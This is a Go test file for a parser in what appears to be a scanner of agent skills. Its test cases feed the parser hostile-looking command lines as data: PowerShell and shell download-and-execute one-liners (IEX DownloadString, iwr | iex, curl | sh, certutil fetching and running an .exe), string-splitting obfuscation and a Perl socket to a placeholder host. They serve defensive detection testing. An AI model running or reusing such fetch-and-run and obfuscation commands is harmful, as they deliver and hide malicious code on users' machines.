package loose

import (
	"strings"
	"testing"

	"github.com/agent-base/agent-base/skill/scan/internal/code"
)

func TestParse(t *testing.T) {
	for _, test := range []struct{ source, want string }{
		{`IEX (New-Object Net.WebClient).DownloadString('http://a/x')`, "do iex(new-object('Net.WebClient').downloadstring('http://a/x'))"},
		{`iwr -useb http://a/x | iex`, "do iwr('-useb', 'http://a/x') | iex()"},
		{`& ('I'+'EX') $b.$a('u')`, "do ('I' + 'EX')(b[a]('u'))"},
		{`$x = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String("aa"))`, "x = text.encoding.unicode.getstring(convert.frombase64string('aa'))"},
		{`system("curl -s $u | sh");`, "do system(('curl -s ' + u + ' | sh'))"},
		{"exec `id x`; `a b`", "do exec(`('id x')); do `('a b')"},
		{`BEGIN { "a | b" | getline x }`, "do begin; do 'a | b' | getline('x')"},
		{`my $s = IO::Socket::INET->new(PeerAddr => "h:1");`, "s = io.socket.inet.new(peeraddr('h:1'))"},
		{"certutil -urlcache -f http://a/x.exe %TEMP%\\x.exe & x.exe", `do certutil('-urlcache', '-f', 'http://a/x.exe', '%TEMP%\x.exe'); do x.exe`},
		{"set a=cur\n%a%l -s x", "a = cur; do (a + 'l')('-s', 'x')"},
		{`Process.Start("cmd", "/c id")`, "do process.start('cmd', '/c id')"},
		{"# system('x')\nx = 1", "x = 1"},
	} {
		if got := code.Short(Parse(test.source, 1).Body); got != test.want {
			t.Errorf("%s\n got %s\nwant %s", test.source, got, test.want)
		}
	}
}

// What is deep, long or broken ends, and the lines are those of the file.
func TestParseBombs(t *testing.T) {
	for _, unit := range []string{"(", "a(", "[", "{", "a|", "$(", "a+", "a.b", "'", "`", "qx(", "a b ", "a=", "&", "@(", "x.", "a\n", ".a()", "a().b("} {
		p := Parse(strings.Repeat(unit, 300_000/len(unit)), 1)
		if err := code.Check(p); err != nil || p.Partly == "" {
			t.Errorf("%q: %v, partly %q", unit, err, p.Partly)
		}
	}
	if p := Parse("a b\n\nc d", 10); len(p.Body) != 2 || p.Body[0].Line != 10 || p.Body[1].Line != 12 {
		t.Errorf("got %+v", p.Body)
	}
}

func FuzzParse(f *testing.F) {
	for _, s := range []string{"iex (a b).c('d')", "$x = 'a'+\"b$c\" | d", "system(qq(a)); `b c`", "[a]::b(\"\\\"", "%a%b -c & d", "a->b(c => d)"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, source string) {
		if err := code.Check(Parse(source, 3)); err != nil {
			t.Error(err)
		}
	})
}
